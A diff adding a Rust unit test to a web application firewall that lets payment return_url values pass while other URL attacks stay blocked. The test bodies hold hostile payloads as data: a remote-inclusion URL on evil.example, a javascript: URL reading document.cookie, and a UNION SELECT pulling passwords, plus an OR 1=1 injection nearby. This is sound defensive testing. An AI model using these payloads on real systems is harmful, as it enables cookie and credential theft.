@@ -4494,6 +4494,42 @@ mod tests {
         assert!(v.over_threshold && !v.blocked);
     }
 
+    /// Stripe's SDKs send `return_url` with a confirmation: a URL on the merchant's site (or on
+    /// localhost in development), which the off-domain inclusion check (931130) and the
+    /// localhost SSRF check (934110) blocked. The shipped configuration lets URLs through there,
+    /// and only there; script URLs and SQL in it, and inclusions in other fields, still block.
+    #[test]
+    fn a_return_url_passes_and_other_url_attacks_do_not() {
+        let w = shared();
+        for (target, body) in [
+            (
+                "/v1/payment_intents",
+                &b"amount=2000&currency=usd&payment_method=pm_123&confirm=true&return_url=https%3A%2F%2Fshop.example.com%2Fcheckout%2Fcomplete%3Forder%3DA-1002"[..],
+            ),
+            (
+                "/v1/payment_intents/pi_123/confirm",
+                &b"payment_method=pm_123&return_url=http%3A%2F%2Flocalhost%3A4242%2Freturn"[..],
+            ),
+        ] {
+            let v = w.inspect(&post(target, body, &[]));
+            assert!(!v.blocked, "{target}: {v:?}");
+        }
+        for (what, body) in [
+            (
+                "remote inclusion in another field",
+                &b"payment_method=https%3A%2F%2Fevil.example%2Fshell.txt%3F"[..],
+            ),
+            ("script URL", &b"return_url=javascript%3Aalert%28document.cookie%29"[..]),
+            (
+                "SQL in the URL",
+                &b"return_url=https%3A%2F%2Fshop.example.com%2F%3Fid%3D1%27%20UNION%20SELECT%20password%20FROM%20users--"[..],
+            ),
+        ] {
+            let v = w.inspect(&post("/v1/payment_intents/pi_123/confirm", body, &[]));
+            assert!(v.blocked, "{what} passed: {v:?}");
+        }
+    }
+
     #[test]
     fn exclusions_apply_to_their_route_and_fields_only() {
         let body = b"note=1%27%20OR%201%3D1--";
